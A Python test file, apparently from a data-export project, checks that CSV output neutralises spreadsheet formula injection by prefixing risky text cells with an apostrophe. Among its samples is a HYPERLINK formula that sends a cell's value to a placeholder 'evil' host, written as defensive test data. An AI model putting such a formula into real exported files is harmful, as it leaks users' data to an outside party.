"""What a CSV of tables says: no text of others begins a formula, wherever a program ends a cell (DEC27)."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest

from lastro.settings import EXPORT_FORMATS
from lastro.warehouse.publication.csv_text import CSV
from lastro.warehouse.publication.datasets import copy_query

TEXTS = {
    '=HYPERLINK("http://evil/?"&A1,"x")': '\'=HYPERLINK("http://evil/?"&A1,"x")',
    "=1+1": "'=1+1",
    "+55 11 99999-0000": "'+55 11 99999-0000",
    "-5": "'-5",
    "@a": "'@a",
    "\t=1": "'\t=1",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "  \u00a0=1": "'  \u00a0=1",
    "\ufeff=1": "'\ufeff=1",
    "＝1": "'＝1",
    "＋1": "'＋1",
    "－1": "'－1",
    "＠a": "'＠a",
    "Ana;=1+1": "Ana;'=1+1",
    "Ana, =1+1": "Ana,' =1+1",
    "Ana\n@a": "Ana\n'@a",
    "a - b": "a - b",
    "x=1": "x=1",
    "ana@firma.example": "ana@firma.example",
    'ação, "b"': 'ação, "b"',
    "'=1": "'=1",
    "": "",
}
"""A text -> what stands in a CSV."""


@pytest.mark.parametrize("formato", CSV)
def test_texts_are_guarded_and_numbers_are_not(tmp_path: Path, formato: str) -> None:
    with duckdb.connect() as con:
        con.execute("CREATE TABLE t AS SELECT unnest(?) AS nome, -12.5::DECIMAL(18,2) AS valor, -3 AS n", [[*TEXTS]])
        path = copy_query(con, "FROM t", tmp_path / "t", formato)
    text = path.read_bytes().decode("utf-8").removeprefix(CSV[formato].mark)
    header, *rows = csv.reader(text.splitlines(keepends=True), delimiter=CSV[formato].delimiter)
    amount = {"csv": "-12.50", "csv-excel": "-12,50"}[formato]
    assert header == ["nome", "valor", "n"]
    assert rows == [[written, amount, "-3"] for written in TEXTS.values()]


def test_each_format_is_a_file_of_its_own(tmp_path: Path) -> None:
    with duckdb.connect() as con:
        con.execute("CREATE TABLE t AS SELECT DATE '2026-03-16' AS dia, 1.5::DECIMAL(18,2) AS valor, true AS pago")
        written = [copy_query(con, "FROM t", tmp_path / "t", formato) for formato in EXPORT_FORMATS]
    assert [path.name for path in written] == ["t.parquet", "t.csv", "t_excel.csv", "t.json"]
    assert {path.name for path in tmp_path.iterdir()} == {path.name for path in written}
    assert written[1].read_bytes().split() == [b"dia,valor,pago", b"2026-03-16,1.50,true"]
    assert written[2].read_bytes().split() == [b"\xef\xbb\xbfdia;valor;pago", b"16/03/2026;1,50;VERDADEIRO"]
